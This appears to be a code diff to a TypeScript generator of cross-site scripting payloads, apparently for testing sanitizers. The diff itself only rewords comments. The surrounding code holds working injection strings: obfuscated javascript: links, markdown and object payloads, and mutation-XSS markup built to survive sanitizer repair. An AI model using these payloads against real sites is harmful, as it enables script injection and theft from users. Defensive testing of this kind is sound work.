@@ -1,14 +1,14 @@
-/** Attempts to make a browser run or fetch something: each way of calling in each way of being let in. */
+/** Attempts to make a browser run or fetch something: each way to do this, in each context of markup. */
 export function xssPayloads(trap: string, wanted = 200): string[] {
   const payloads = [...contexts.flatMap((context) => calls(trap).map((call) => context(call, trap))), ...singles(trap)];
   const unique = [...new Set(payloads)];
-  // Spread over all contexts, not the first ones only.
+  // Spread over all contexts instead of taking the first ones only.
   const step = unique.length / wanted;
   if (step < 1) throw new Error(`only ${unique.length} payloads`);
   return Array.from({ length: wanted }, (_, index) => unique[Math.floor(index * step)] ?? '');
 }
 
-/** What is to happen: a script that shows itself, or a request to the trap. */
+/** The aim: a script that shows itself, or a request to the trap. */
 const calls = (trap: string): string[] => [
   'alert(1)',
   'window.alert`1`',
@@ -44,7 +44,7 @@ const contexts: ((call: string, trap: string) => string)[] = [
   (call) => `<a href="java&#9;script:${call.replaceAll('"', '&quot;')}">clique</a>`,
   (call) => `[clique](javascript:${call})`,
   (call) => `<object data='javascript:${call}'></object>`,
-  // Mutation: harmless as written, something else once a parser has put it right.
+  // Mutation: harmless as written, but harmful after a parser has repaired it.
   (call) => `<noscript><p title="</noscript><img src=x onerror='${call}'>">`,
   (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='${call}'&gt;">`,
   (call) => `<svg></p><style><a id="</style><img src=x onerror='${call}'>">`,
